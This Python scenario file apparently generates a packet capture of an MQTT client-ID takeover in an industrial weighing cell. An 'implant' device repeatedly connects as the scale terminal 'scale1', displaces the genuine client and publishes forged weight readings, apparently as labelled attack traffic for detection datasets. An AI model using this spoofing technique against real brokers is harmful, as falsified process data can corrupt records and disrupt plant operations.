"""A device in the cell connects with the weighing terminal's client identifier, and the broker drops the real one."""

from __future__ import annotations

import json

from pcaps.scenarios.rig.stage import Stage
from pcaps.scenarios.rig.telemetry import SCALE, V5, make_client, make_scenario, run_client


async def attack(stage: Stage) -> None:
    """Take the session six times, as the terminal takes it back each time, and send weights in its name."""
    await stage.until(40)
    stage.mark()
    for ordinal in range(6):
        async with run_client(make_client("scale1", version=V5)) as client:
            body = {"n": 9000 + ordinal, "gross": 24.1, "unit": "kg", "bag": f"88.118.7/BAG{9000 + ordinal:06d}"}
            client.publish(f"{SCALE}/data", json.dumps(body), 1)
            await stage.wait(3)
        await stage.wait(5)


SCENARIO = make_scenario("mqtt_client_takeover.pcap.gz", 46, 120, {"implant": attack}, strangers=("implant",))
